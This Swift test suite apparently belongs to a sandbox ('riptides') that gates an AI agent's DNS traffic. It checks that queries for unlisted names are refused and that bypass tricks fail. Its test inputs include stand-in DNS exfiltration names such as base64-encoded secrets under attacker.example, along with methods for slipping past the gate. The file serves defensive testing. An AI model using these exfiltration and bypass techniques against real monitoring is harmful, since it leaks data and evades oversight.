import Foundation
import Glibc
import RiptidesTestSupport
import Testing

/// Threat model item 15, DNS as a channel: in the netns tier every query
/// reaches riptides's proxy, which refuses names no host rule allows (they
/// never leave the host) and binds the answers for allowed ones to the
/// agent, so a wildcard host rule matches the address a name resolved to.
@Suite("exec: DNS gate (netns tier)", .enabled(if: geteuid() == 0, "the fake nameserver binds port 53, which needs root"))
struct DNSGateTests {
    /// A nameserver on `address`:53 recording the names it is asked; and a
    /// resolv.conf naming it, for riptides (`RIPTIDES_RESOLV_CONF`).
    final class Nameserver {
        let address: String
        let log: String
        let resolvConf: String
        private let process: ChildProcess

        /// Runs in `namespace` (a host of the test's own) when given.
        init(address: String, in namespace: TestNamespace? = nil) throws {
            self.address = address
            let id = UUID().uuidString.prefix(8)
            log = Harness.scratch.appendingPathComponent("dns-\(id).log").path
            resolvConf = Harness.scratch.appendingPathComponent("resolv-\(id).conf").path
            _ = FileManager.default.createFile(atPath: log, contents: nil)
            try "nameserver \(address)\n".write(toFile: resolvConf, atomically: true, encoding: .utf8)
            let command = ["/usr/bin/env", "python3", Harness.packageRoot.appendingPathComponent("Tests/Agents/fake_nameserver.py").path, address, log]
            let launched = namespace?.wrapping(command) ?? command
            process = try ChildProcess(launched[0], Array(launched.dropFirst()))
            _ = process.firstLine()
        }

        var askedNames: [String] {
            ((try? String(contentsOfFile: log, encoding: .utf8)) ?? "").split(separator: "\n").map(String.init)
        }

        deinit {
            process.signal(SIGKILL)
            process.wait()
        }
    }

    /// A profile whose one rule allows `*.allowed.example` on `port`: a
    /// wildcard, so riptides resolves no name itself and only the agent's
    /// own DNS answers bind addresses to names.
    static func wildcardProfile(_ name: String, port: UInt16 = 443) throws -> String {
        try Harness.profile(name, """
            identity: spiffe://test.example/agent/dns
            rules:
              - name: api
                to: ["*.allowed.example"]
                ports: [\(port)]
            """)
    }

    /// dns_client.py under riptides with `nameserver` as the gate's; the
    /// client sends to `server` (the nameserver's address unless given).
    /// riptides runs in `namespace` when given.
    static func run(_ nameserver: Nameserver, profile: String, server: String? = nil, in namespace: TestNamespace? = nil,
                    mode: String = "enforce", _ arguments: [String]) throws -> Harness.Result {
        var environment = ProcessInfo.processInfo.environment
        environment["RIPTIDES_RESOLV_CONF"] = nameserver.resolvConf
        let exec = ["exec", "--isolation", "netns", "--mode", mode, "--profile", profile, "--", "/usr/bin/env", "python3",
                    Harness.packageRoot.appendingPathComponent("Tests/Agents/dns_client.py").path, server ?? nameserver.address] + arguments
        guard let namespace else { return try Harness.riptides(exec, environment: environment) }
        let command = namespace.wrapping([Harness.riptides] + exec)
        return try Harness.run(command[0], Array(command.dropFirst()), environment: environment)
    }

    @Test("a query for a name no rule allows is REFUSED and never reaches the nameserver; an allowed one is answered")
    func refusesUnlistedNames() throws {
        let nameserver = try Nameserver(address: "127.0.0.77")
        let profile = try Self.wildcardProfile("dns")
        let result = try Self.run(nameserver, profile: profile, ["api.allowed.example", "c2VjcmV0LWRhdGE.attacker.example"])
        #expect(result.reports["api.allowed.example"] == "rcode0 answers=1 127.0.0.1")
        #expect(result.reports["c2VjcmV0LWRhdGE.attacker.example"] == "rcode5 answers=0")
        #expect(nameserver.askedNames == ["api.allowed.example"])
        let dns = result.audit.filter { $0["event"] as? String == "dns" }
        #expect(dns.map { $0["host"] as? String } == ["api.allowed.example", "c2vjcmv0lwrhdge.attacker.example"])
        #expect(dns.map { $0["decision"] as? String } == ["allow", "deny"])
        // Each query is credited to the process that sent it.
        let agent = try #require(result.audit.first { $0["event"] as? String == "session.start" }?["pid"] as? Int)
        #expect(dns.map { $0["pid"] as? Int } == [agent, agent], "\(result.stdout)")
        #expect(dns.allSatisfy { ($0["exe"] as? String)?.contains("python") == true }, "\(result.stdout)")
    }

    @Test("the answer binds the address to the name for this agent: a wildcard rule then allows the connect")
    func bindsAnswers() throws {
        let nameserver = try Nameserver(address: "127.0.0.78")
        let listener = try Listener(.tcp)
        let profile = try Self.wildcardProfile("dns-bind", port: listener.port)
        let bound = try Self.run(nameserver, profile: profile, ["api.allowed.example", "--connect", "\(listener.port)"])
        #expect(bound.reports["connect"] == "ok", "\(bound.stdout)")
        #expect(listener.messages() == ["hello"])
        // The agent's connect to the address the name resolved to (the
        // Python runtime may make other calls of its own).
        let connect = try #require(bound.decisions.first {
            $0["event"] as? String == "connect" && $0["protocol"] as? String == "tcp" && $0["port"] as? Int == Int(listener.port)
        }, "\(bound.stdout)")
        #expect(connect["host"] as? String == "api.allowed.example", "\(bound.stdout)")
        #expect(connect["rule"] as? String == "api", "\(bound.stdout)")

        // In a session without that lookup, 127.0.0.1 is no allowed name's address: denied.
        let unbound = try Harness.probe(profile: profile, ["tcp", "127.0.0.1", "\(listener.port)", "unbound"],
                                        extra: ["--isolation", "netns"])
        #expect(unbound.reports["connect"] == "EPERM")
        #expect(listener.messages() == ["hello"])
    }

    @Test("an IPv6 nameserver (::1) is gated like an IPv4 one: unlisted names REFUSED, allowed ones answered and bound",
          .enabled(if: TestNamespace.hasIPv6Loopback, "this machine has no IPv6 loopback (::1)"))
    func ipv6Nameserver() throws {
        let nameserver = try Nameserver(address: "::1")
        let listener = try Listener(.tcp)
        let profile = try Self.wildcardProfile("dns-v6", port: listener.port)
        let result = try Self.run(nameserver, profile: profile,
                                  ["api.allowed.example", "c2VjcmV0.attacker.example", "--connect", "\(listener.port)"])
        #expect(result.reports["api.allowed.example"] == "rcode0 answers=1 127.0.0.1", "\(result.stdout)")
        #expect(result.reports["c2VjcmV0.attacker.example"] == "rcode5 answers=0", "\(result.stdout)")
        #expect(result.reports["connect"] == "ok", "\(result.stdout)")
        #expect(listener.messages() == ["hello"])
        #expect(nameserver.askedNames == ["api.allowed.example"])
        let dns = result.audit.filter { $0["event"] as? String == "dns" }
        #expect(dns.map { $0["address"] as? String } == ["::1", "::1"])
    }

    @Test("a nameserver at a global IPv6 address gets that address in the agent's namespace, and its queries are gated",
          .enabled(if: TestNamespace.available, "needs root, iproute2's ip and IPv6 to make a network namespace as a test host"))
    func ipv6NameserverOffLoopback() throws {
        // A host of the test's own, so that the machine's addresses stay untouched.
        let host = try TestNamespace(addresses: ["fd00:53::53/128"])
        let nameserver = try Nameserver(address: "fd00:53::53", in: host)
        let profile = try Self.wildcardProfile("dns-v6-global")
        let result = try Self.run(nameserver, profile: profile, in: host, ["api.allowed.example", "c2VjcmV0.attacker.example"])
        #expect(result.status == 0, "\(result.stderr)")
        #expect(result.reports["api.allowed.example"] == "rcode0 answers=1 127.0.0.1", "\(result.stdout)\(result.stderr)")
        #expect(result.reports["c2VjcmV0.attacker.example"] == "rcode5 answers=0", "\(result.stdout)")
        #expect(nameserver.askedNames == ["api.allowed.example"])
    }

    @Test("an IPv6 nameserver the agent's namespace cannot take is left out, in one line on stderr; the IPv4 one still gates")
    func unusableIPv6Nameserver() throws {
        let nameserver = try Nameserver(address: "127.0.0.83")
        // A multicast address: the kernel refuses it as an interface address.
        try "nameserver ff02::1\nnameserver 127.0.0.83\n".write(toFile: nameserver.resolvConf, atomically: true, encoding: .utf8)
        let profile = try Self.wildcardProfile("dns-v6-refused")
        let result = try Self.run(nameserver, profile: profile, ["api.allowed.example", "c2VjcmV0.attacker.example"])
        #expect(result.status == 0, "\(result.stderr)")
        #expect(result.stderr.contains("riptides: IPv6 nameserver ff02::1 could not be set up in the agent's namespace; queries to it follow the profile's address rules\n"),
                "\(result.stderr)")
        #expect(result.reports["api.allowed.example"] == "rcode0 answers=1 127.0.0.1", "\(result.stdout)")
        #expect(result.reports["c2VjcmV0.attacker.example"] == "rcode5 answers=0", "\(result.stdout)")
    }

    @Test("no way around the gate: UDP to the IPv4-mapped spelling and DNS over TCP, even with a profile rule allowing the nameserver, go through the proxy", arguments: ["mapped", "tcp"])
    func noBypass(via: String) throws {
        let nameserver = try Nameserver(address: via == "tcp" ? "127.0.0.79" : "127.0.0.80")
        let profile = try Harness.profile("dns-bypass", """
            identity: spiffe://test.example/agent/dns
            rules:
              - name: dns
                to: [\(nameserver.address)]
                ports: [53]
              - name: api
                to: ["*.allowed.example"]  # a wildcard: riptides resolves no name itself
                ports: [443]
            """)
        let denied = try Self.run(nameserver, profile: profile, ["exfil-c2VjcmV0.attacker.example", "--via", via])
        let outcome = try #require(denied.reports["exfil-c2VjcmV0.attacker.example"], "\(denied.stdout)")
        #expect(outcome == (via == "tcp" ? "tcp rcode5" : "rcode5"), "\(outcome)")
        let allowed = try Self.run(nameserver, profile: profile, ["api.allowed.example", "--via", via])
        #expect(allowed.reports["api.allowed.example"] == (via == "tcp" ? "tcp rcode0" : "rcode0"), "\(allowed.stdout)")
        let agent = try #require(allowed.audit.first { $0["event"] as? String == "session.start" }?["pid"] as? Int)
        let query = try #require(allowed.audit.first { $0["event"] as? String == "dns" }, "\(allowed.stdout)")
        #expect(query["pid"] as? Int == agent, "\(allowed.stdout)")
        usleep(300_000)
        #expect(nameserver.askedNames == [via == "tcp" ? "tcp api.allowed.example" : "api.allowed.example"])
    }

    @Test("a UDP socket riptides already serves from the host (it sent an allowed datagram) cannot reach the nameserver past the proxy, even with a rule for it; observe mode lets it through and logs it")
    func replacedSocket() throws {
        let nameserver = try Nameserver(address: "127.0.0.84")
        let warm = try Listener(.udp)
        let profile = try Harness.profile("dns-replaced", """
            identity: spiffe://test.example/agent/dns
            rules:
              - name: warm
                to: [127.0.0.1]
                ports: [\(warm.port)]
                protocol: udp
              - name: dns
                to: [\(nameserver.address)]
                ports: [53]
            """)
        let name = "after-c2VjcmV0.attacker.example"
        let denied = try Self.run(nameserver, profile: profile, [name, "--after", "\(warm.port)"])
        #expect(denied.reports["warm"] == "ok", "\(denied.stdout)")
        #expect(denied.reports[name] == "errno1", "\(denied.stdout)")
        let refused = try #require(denied.decisions.first { $0["event"] as? String == "sendto" && $0["port"] as? Int == 53 },
                                   "\(denied.stdout)")
        #expect(refused["decision"] as? String == "deny")
        #expect(refused["mode"] as? String == "enforce")
        usleep(200_000)
        #expect(nameserver.askedNames.isEmpty, "\(nameserver.askedNames)")
        #expect(warm.messages() == ["warm"])

        let observed = try Self.run(nameserver, profile: profile, mode: "observe", [name, "--after", "\(warm.port)"])
        #expect(observed.reports[name] == "rcode0", "\(observed.stdout)")
        let logged = try #require(observed.decisions.first { $0["event"] as? String == "sendto" && $0["port"] as? Int == 53 },
                                  "\(observed.stdout)")
        #expect(logged["decision"] as? String == "deny")
        #expect(logged["mode"] as? String == "observe")
        usleep(200_000)
        #expect(nameserver.askedNames == [name])
    }

    @Test("the name decided is the name sent: a label holding a dot is refused, not read as a name below an allowed domain")
    func dottedLabel() throws {
        let nameserver = try Nameserver(address: "127.0.0.81")
        let profile = try Self.wildcardProfile("dns-dot")
        // Labels: "dot-secret", "attacker.allowed" (one label), "example".
        let result = try Self.run(nameserver, profile: profile, ["dot-secret.attacker\\.allowed.example"])
        #expect(result.reports.values.contains("rcode5 answers=0"), "\(result.stdout)")
        usleep(200_000)
        #expect(nameserver.askedNames.isEmpty, "\(nameserver.askedNames)")
    }

    @Test("a nameserver on 127.0.0.1 written as 0.0.0.0 still goes through the proxy, even with a profile rule for it")
    func unspecifiedSpelling() throws {
        let nameserver = try Nameserver(address: "127.0.0.1")
        let profile = try Harness.profile("dns-zero", """
            identity: spiffe://test.example/agent/dns
            rules:
              - name: dns
                to: [127.0.0.1]
                ports: [53]
            """)
        let result = try Self.run(nameserver, profile: profile, server: "0.0.0.0", ["zero-c2VjcmV0.attacker.example"])
        #expect(result.reports["zero-c2VjcmV0.attacker.example"] == "rcode5 answers=0", "\(result.stdout)")
        usleep(200_000)
        #expect(nameserver.askedNames.isEmpty, "\(nameserver.askedNames)")
    }

    @Test("DNS over TCP cannot multiply riptides's threads: 200 idle connections to the gate hold at most a bounded few")
    func boundedTCPClients() throws {
        let nameserver = try Nameserver(address: "127.0.0.82")
        let profile = try Harness.profile("dns-hold", "identity: spiffe://test.example/agent/dns\n")
        var environment = ProcessInfo.processInfo.environment
        environment["RIPTIDES_RESOLV_CONF"] = nameserver.resolvConf
        let riptides = try ChildProcess(Harness.riptides, [
            "exec", "--isolation", "netns", "--profile", profile, "--audit", "/dev/null", "--quiet", "--",
            "/usr/bin/env", "python3", Harness.packageRoot.appendingPathComponent("Tests/Agents/dns_client.py").path,
            nameserver.address, "--hold", "200",
        ], environment: environment, standardError: .discard)
        defer { riptides.signal(SIGKILL); riptides.wait() }
        let line = riptides.firstLine()
        #expect(line.hasPrefix("held="), "\(line)")
        let threads = (try? FileManager.default.contentsOfDirectory(atPath: "/proc/\(riptides.pid)/task"))?.count ?? 0
        #expect(threads > 0 && threads < 40, "riptides has \(threads) threads")
    }
}
